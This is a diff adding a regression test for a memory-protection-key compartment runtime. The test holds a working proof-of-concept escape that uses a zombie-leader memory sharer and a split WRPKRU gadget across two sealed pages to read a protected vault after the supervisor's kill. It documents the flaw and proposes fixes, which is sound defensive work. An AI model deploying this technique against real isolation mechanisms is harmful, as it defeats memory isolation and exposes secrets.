@@ -1,0 +1,162 @@
+// Attacker model B. The supervisor's kill after a split WRPKRU (two
+// executable mappings whose bytes across their edge make one) takes every
+// process that shares the caller's memory first: it reads /proc and kills
+// each pid whose memory kcmp(KCMP_VM) says is the caller's
+// (runtime/supervisor-exec.c kill_with_sharers). /proc lists thread-group
+// leaders only, and kcmp compares task->mm, which is NULL for a leader
+// that has ended while its other threads live (a zombie leader). So the
+// default domain starts a clone(CLONE_VM) process whose leader starts a
+// thread (CLONE_THREAD) and ends with SYS_exit: the process lives on in its
+// thread, sharing the memory, and kcmp against its (listed) leader says
+// "another memory". The default domain then maps A (a sealed memfd page
+// ending in 0F 01) and B (a page starting with EF C3) right after it; the
+// supervisor finds the split WRPKRU, kills the caller, misses the sharer,
+// and the sharer's thread jumps to A's last two bytes with eax = ecx = edx
+// = 0 after its parent is gone: every key opens and it reads the vault's
+// page (no race). Found in the sixth review; reproduced in the QEMU guest
+// (6.1) as uid 65534.
+//
+// The fix should not find sharers through their leaders: compare every
+// task (/proc/<pid>/task/<tid>) of every process, or better, judge the
+// edges before the call (docs/hardening.md, the third review's "Left"), or
+// unmap the joint mapping (from the supervisor, e.g. through the caller
+// before the kill) instead of relying on finding every sharer.
+// REQUIRES: pku
+// XFAIL: *
+// RUN: %bulkhead_clang -fpkey-compartments -fno-pkey-syscall-filter -O2 %s -o %t.off
+// RUN: %run %t.off | FileCheck %s --check-prefix=OFF
+// RUN: %bulkhead_clang -fpkey-compartments -O2 %s -o %t.on
+// RUN: %run %t.on | FileCheck %s --check-prefix=ON
+// OFF: == zombie-leader-sharer
+// OFF: ATTACK SUCCEEDED: the thread of a process sharing the memory, after the kill, read "vault-secret
+// ON-NOT: ATTACK SUCCEEDED
+// ON: zombie-leader-sharer: stopped by signal 9
+// ON: attack failed
+// ON: parent's vault intact: 1
+#include "Inputs/target.h"
+#include "Inputs/libc-wrpkru.h"
+
+#include <poll.h>
+#include <sched.h>
+
+#ifndef F_ADD_SEALS
+#define F_ADD_SEALS 1033
+#define F_SEAL_WRITE 0x0008
+#endif
+
+static int sealed(const unsigned char *page) {
+  int fd = memfd_create("code", MFD_CLOEXEC | MFD_ALLOW_SEALING);
+  if (fd < 0 || write(fd, page, 4096) != 4096 || fcntl(fd, F_ADD_SEALS, F_SEAL_WRITE))
+    return -1;
+  return fd;
+}
+
+static int out[2];
+static unsigned char *at;
+static volatile long attacker; /* the process that maps B */
+static char stack[65536] __attribute__((aligned(16)));
+static char thread_stack[65536] __attribute__((aligned(16)));
+
+/* The sharer's thread: it waits for the attacker's end, then jumps to the
+ * joint bytes. System calls only (it shares the TLS). */
+static int thread(void *unused) {
+  (void)unused;
+  while (syscall(SYS_kill, attacker, 0) == 0)
+    syscall(SYS_sched_yield);
+  static char got[48];
+  __asm__ volatile("xorl %%eax, %%eax\n\txorl %%ecx, %%ecx\n\txorl %%edx, %%edx\n\t"
+                   "call *%0\n\t"
+                   "movq %1, %%rsi\n\tmovq %2, %%rdi\n\tmovl $40, %%ecx\n\trep movsb"
+                   :
+                   : "r"(at + 4094), "r"(vault_data), "r"(got)
+                   : "rax", "rcx", "rdx", "rsi", "rdi", "memory");
+  syscall(SYS_write, out[1], got, 40);
+  syscall(SYS_exit_group, 0);
+  return 0;
+}
+
+/* The sharer's leader: starts the thread and ends (SYS_exit, on return),
+ * leaving a zombie leader whose task has no memory for kcmp to compare. */
+static int leader(void *unused) {
+  (void)unused;
+  if (clone(thread, thread_stack + sizeof thread_stack,
+            CLONE_VM | CLONE_THREAD | CLONE_SIGHAND, NULL) < 0)
+    syscall(SYS_write, 1, "setup: thread\n", 14);
+  return 0;
+}
+
+static void attack(void) {
+  if (drop_to_nobody())
+    return;
+  attacker = getpid();
+  /* A ends in 0F 01, B starts with EF C3 (WRPKRU's last byte, ret). */
+  static unsigned char a[4096], b[4096];
+  memset(a, 0x90, sizeof a); /* nop */
+  a[4094] = 0x0f, a[4095] = 0x01;
+  memset(b, 0xcc, sizeof b);
+  b[0] = 0xff ^ flip, b[1] = 0xc3;
+  int fa = sealed(a), fb = sealed(b);
+  at = mmap(NULL, 8192, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+  if (fa < 0 || fb < 0 || at == MAP_FAILED || munmap(at, 8192) ||
+      mmap(at, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE | MAP_FIXED, fa, 0) != at) {
+    printf("setup: %s\n", strerror(errno));
+    return;
+  }
+  pid_t s = clone(leader, stack + sizeof stack, CLONE_VM | SIGCHLD, NULL);
+  if (s < 0) {
+    printf("setup: clone: %s\n", strerror(errno));
+    return;
+  }
+  /* Wait for the leader's end (a zombie now, its thread alive). */
+  char path[64], buf[512];
+  for (int i = 0; i < 2000; i++) {
+    snprintf(path, sizeof path, "/proc/%d/stat", (int)s);
+    int fd = open(path, O_RDONLY);
+    ssize_t k = fd < 0 ? -1 : read(fd, buf, sizeof buf - 1);
+    if (fd >= 0)
+      close(fd);
+    if (k > 0) {
+      buf[k] = 0;
+      char *p = strrchr(buf, ')');
+      if (p && p[2] == 'Z')
+        break;
+    }
+    usleep(1000);
+  }
+  printf("sharer's leader: %.3s\n", strrchr(buf, ')') ? strrchr(buf, ')') + 2 : "?");
+  fflush(stdout);
+  /* The second half: the supervisor kills this process for it. */
+  mmap(at + 4096, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE | MAP_FIXED, fb, 0);
+  printf("mapped\n");
+}
+
+int main(void) {
+  if (pipe(out))
+    return 1;
+  vault_block = vault_new_block();
+  printf("== zombie-leader-sharer\n");
+  fflush(stdout);
+  pid_t pid = fork();
+  if (pid == 0) {
+    attack();
+    fflush(stdout);
+    _exit(0);
+  }
+  int st;
+  if (pid < 0 || waitpid(pid, &st, 0) != pid)
+    return 1;
+  if (WIFSIGNALED(st))
+    printf("zombie-leader-sharer: stopped by signal %d\n", WTERMSIG(st));
+  else
+    printf("zombie-leader-sharer: exited %d\n", WEXITSTATUS(st));
+  close(out[1]);
+  struct pollfd p = {out[0], POLLIN, 0};
+  static char got[48];
+  errno = 0;
+  if (poll(&p, 1, 20000) == 1 && read(out[0], got, 40) == 40)
+    report_read("the thread of a process sharing the memory, after the kill,", got);
+  else
+    report_read("the thread of a process sharing the memory, after the kill,", NULL);
+  printf("parent's vault intact: %d\n", vault_data_intact() && vault_block_intact(vault_block));
+  return 0;
+}
